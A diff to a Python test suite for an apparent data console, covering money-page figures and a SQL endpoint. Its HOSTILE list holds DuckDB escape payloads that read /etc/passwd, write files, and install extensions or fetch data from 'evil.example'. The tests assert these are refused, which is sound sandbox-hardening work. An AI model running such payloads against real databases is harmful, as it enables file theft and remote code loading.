@@ -1,4 +1,4 @@
-"""Money and SQL: the recipes' figures, and questions that read nothing but the lake."""
+"""Money and SQL: the command line's figures, and questions that read nothing but the lake."""
 
 from __future__ import annotations
 
@@ -6,6 +6,7 @@ import csv
 import html
 import io
 import re
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 from urllib.parse import quote
@@ -15,46 +16,64 @@ from tests.support.stack.visit import Visit
 
 from nilometer.console.http.formats import money
 from nilometer.console.money.pages import PARTS
-from nilometer.errors import Rejected
+from nilometer.errors import Rejected, Unavailable
 from nilometer.lake.read.bounded import bounded_query
 
+SINCE = "2026-01-01"
 
+
+@pytest.mark.parametrize("known", ["", "2026-11-10T00:00"])
 @pytest.mark.parametrize("name", PARTS)
-def test_figures_of_money_are_the_recipes(visit: Visit, ask: Any, name: str) -> None:
-    """Each row of the command line stands in the table, and in the CSV as it is."""
+def test_figures_of_money_are_the_command_lines(visit: Visit, ask: Any, name: str, known: str) -> None:
+    """Each row of the command line stands in the table, and in the CSV as it is, also as known at an earlier time."""
     part = PARTS[name]
-    rows = ask("query", "--recipe", part.recipe, "--since", "2026-01-01", "--json").lines
-    shown = html.unescape(visit.get(f"/money/{name}?from=2026-01-01").text)
-    file = list(csv.DictReader(io.StringIO(visit.get(f"/money/{name}.csv?from=2026-01-01").text)))
+    known = known or f"{datetime.now(UTC):%Y-%m-%dT%H:%M:%S}"
+    if part.metric:
+        rows = ask("metric", part.metric, "--from", SINCE, "--known-at", f"{known}Z", "--json").lines
+    else:
+        rows = ask("query", "--recipe", part.recipe, "--since", SINCE, "--as-of", f"{known}Z", "--json").lines
+    asked = f"from={SINCE}&known={quote(known)}"
+    shown = html.unescape(visit.get(f"/money/{name}?{asked}").text)
+    file = list(csv.DictReader(io.StringIO(visit.get(f"/money/{name}.csv?{asked}").text)))
 
     assert len(file) == len(rows)
     assert rows or part.empty in shown
-    for row in rows:
+    for row, line in zip(rows, file, strict=True):
+        assert all(str(row[column]) == line[column] for column in part.amounts)
+    for row in rows[-1:] if name == "mrr" else rows:
         assert all(money(row[column], row["currency"]) in shown for column in part.amounts)
 
 
-@pytest.mark.parametrize("name", [name for name, part in PARTS.items() if part.behind and name != "mrr"])
-def test_a_figure_opens_into_its_events(visit: Visit, ask: Any, name: str) -> None:
-    """Their amounts add up to it."""
-    part, amount = PARTS[name], PARTS[name].amounts[0]
-    page = visit.get(f"/money/{name}").text
+@pytest.mark.parametrize("name", [name for name, part in PARTS.items() if part.behind])
+def test_a_figure_opens_into_its_events(visit: Visit, name: str) -> None:
+    """Each link leads to events, and each of them opens."""
+    page = visit.get(f"/money/{name}?from={SINCE}").text
     links = [html.unescape(found) for found in re.findall(r'href="(/money/events/[^"]+)"', page)]
-    figures = ask("query", "--recipe", part.recipe, "--json").lines
 
-    assert len(links) == len(figures)
-    for link, figure in zip(links, figures, strict=True):
-        opened = visit.get(link).text
-        cells = [re.findall(r"<td[^>]*>(?:<a[^>]*>)?([^<]*)", row) for row in opened.split("<tr>")[2:]]
-        columns = [name.replace(" ", "_") for name in re.findall(r'<th scope="col"[^>]*>([^<]+)', opened)]
-        values = [int(row[columns.index(amount)].replace(",", "")) for row in cells]
-        assert sum(values) == figure[amount]
-        assert "/event?name=evt_" in opened
+    assert links or PARTS[name].empty in page
+    for link in links[:3]:
+        events = re.findall(r'href="(/event[^"]+)"', visit.get(link).text)
+        assert events
+        assert visit.get(html.unescape(events[0])).status == 200
+
+
+def test_recurring_revenue_is_the_sum_of_its_events(visit: Visit, ask: Any) -> None:
+    """The changes behind the figure add up to it; those behind a movement are of its month."""
+    [row] = ask("metric", "mrr_daily", "--from", f"{datetime.now(UTC):%Y-%m-%d}", "--json").lines
+    page = visit.get("/money/mrr").text
+    opened = visit.get(html.unescape(re.findall(r'href="(/money/events/[^"]+)"', page)[-1])).text
+    cells = [re.findall(r"<td[^>]*>(?:<a[^>]*>)?([^<]*)", row) for row in opened.split("<tr>")[2:]]
+    columns = [name.replace(" ", "_") for name in re.findall(r'<th scope="col"[^>]*>([^<]+)', opened)]
+
+    assert sum(int(one[columns.index("change")].replace(",", "")) for one in cells) == row["mrr"]
 
 
 def test_days_that_are_none_are_refused(visit: Visit) -> None:
     """With what a day looks like."""
     for told in ("yesterday", "2026-13-01", "0001-01-01"):
         assert visit.get(f"/money?from={quote(told)}").status == 400
+        assert visit.get(f"/money/mrr?known={quote(told)}").status == 400
+    assert visit.get("/money?from=2026-02-01&to=2026-01-01").status == 400
 
 
 def test_a_question_is_answered_as_a_grid_chart_and_file(visit: Visit, ask: Any) -> None:
@@ -111,6 +130,24 @@ HOSTILE = (
     "insert into usage select * from usage",
     "drop view usage; select * from read_text('/etc/passwd')",
     "create table t as select * from read_text('/etc/passwd'); from t",
+    "copy (from usage) to '{file}' (format parquet)",
+    "COPY/**/(select 1)/**/TO '{file}'",
+    "import database '/etc'",
+    "attach '{file}' as other (type sqlite)",
+    "create secret s (type s3, key_id 'x', secret 'y')",
+    "set temp_directory = '{file}'",
+    "pragma enable_profiling; pragma profiling_output = '{file}'",
+    "set log_query_path = '{file}'",
+    "set custom_extension_repository = 'http://evil.example'",
+    "set s3_endpoint = 'evil.example'; select 1",
+    "force install httpfs from 'http://evil.example'",
+    "call enable_logging()",
+    "prepare p as select * from read_text('/etc/passwd'); execute p",
+    "with t as (select * from read_text('/etc/passwd')) select * from t",
+    "select * from query('select * from read_text(''/etc/passwd'')')",
+    "select (select content from read_text('/etc/passwd'))",
+    "select * from 'https://evil.example/x.csv'",
+    "select * from '{file}'",
 )
 
 
@@ -125,6 +162,29 @@ def test_sql_reads_and_writes_no_file(visit: Visit, tmp_path: Path, sql: str) ->
     assert "root:" not in page
     assert visit.get(f"/sql.csv?q={asked}").status == 400
     assert list(tmp_path.iterdir()) == []
+
+
+def test_no_function_reads_or_writes_a_file(tmp_path: Path) -> None:
+    """Every one of this version of DuckDB, called with the name of a file that is there and of one that is not."""
+    lake: Any = {"lake_uri": str(tmp_path / "lake"), "storage_options": {}}
+    secret, made = tmp_path / "secret.csv", tmp_path / "made"
+    secret.write_text("word\nopensesame\n")
+    told = """select distinct function_name, function_type from duckdb_functions()
+              where function_type in ('table', 'table_macro', 'pragma') or
+                    function_name similar to '.*(read|write|file|env|path|load|glob|http|import|export|secret).*'"""
+    functions = bounded_query(told, **lake, limit=10_000).rows
+    assert len(functions) > 80
+    for name, kind in functions:
+        for file in (secret, made):
+            called = f"\"{name}\"('{file}')"
+            sql = {"pragma": f"pragma {name}('{file}')", "scalar": f"select {called}"}.get(kind, f"from {called}")
+            try:
+                answer = str(bounded_query(sql, **lake, seconds=3).rows)
+            except (Rejected, Unavailable):
+                continue
+            assert "opensesame" not in answer, name
+            assert str(secret) not in answer or kind == "scalar", name
+    assert sorted(tmp_path.rglob("*")) == [secret]
 
 
 def test_sql_is_bounded_in_time_and_rows(tmp_path: Path) -> None:
